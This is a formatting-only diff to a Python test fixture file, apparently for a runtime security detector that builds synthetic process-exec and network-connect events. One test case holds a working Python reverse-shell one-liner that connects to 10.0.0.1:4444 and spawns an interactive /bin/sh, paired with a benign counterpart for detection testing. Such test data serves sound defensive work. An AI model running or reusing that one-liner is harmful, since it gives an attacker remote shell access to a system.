@@ -49,19 +49,36 @@ def run(
         chain.append(Ancestor(100, parent, tuple(shlex.split(parent_cmd)) or (parent,)))
     chain.extend(Ancestor(101 + i, a) for i, a in enumerate(ancestors))
     process = Process(
-        pid=200, ppid=100, uid=0, exe=exe, comm=exe.rpartition("/")[2][:15], args=args,
-        cgroup_id=7, ancestors=tuple(chain),
+        pid=200,
+        ppid=100,
+        uid=0,
+        exe=exe,
+        comm=exe.rpartition("/")[2][:15],
+        args=args,
+        cgroup_id=7,
+        ancestors=tuple(chain),
     )
     event = ExecEvent(1, 200, 100, 0, 0, 7, process.comm, exe, args, False)
     return EnrichedEvent(event, None if image == HOST else container(image), process)
 
 
-def connect(daddr: str, dport: int, image: str = "acme/app:1.0", exe: str = "/usr/bin/curl",
-            ancestors: tuple[str, ...] = ()) -> EnrichedEvent:
+def connect(
+    daddr: str,
+    dport: int,
+    image: str = "acme/app:1.0",
+    exe: str = "/usr/bin/curl",
+    ancestors: tuple[str, ...] = (),
+) -> EnrichedEvent:
     family = "ipv6" if ":" in daddr else "ipv4"
     process = Process(
-        pid=300, ppid=1, uid=1000, exe=exe, comm=exe.rpartition("/")[2], args=(exe,),
-        cgroup_id=7, ancestors=tuple(Ancestor(301 + i, a) for i, a in enumerate(ancestors)),
+        pid=300,
+        ppid=1,
+        uid=1000,
+        exe=exe,
+        comm=exe.rpartition("/")[2],
+        args=(exe,),
+        cgroup_id=7,
+        ancestors=tuple(Ancestor(301 + i, a) for i, a in enumerate(ancestors)),
     )
     event = ConnectEvent(1, 300, 300, 1000, 7, process.comm, family, daddr, dport, 0)
     return EnrichedEvent(event, None if image == HOST else container(image), process)
@@ -96,8 +113,8 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
     ),
     "foothold.reverse-shell-interpreter": (
         run(
-            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
-            "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"
+            'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",'
+            '4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''
         ),
         run("python3 -c 'import socket; print(socket.gethostname())'"),
     ),
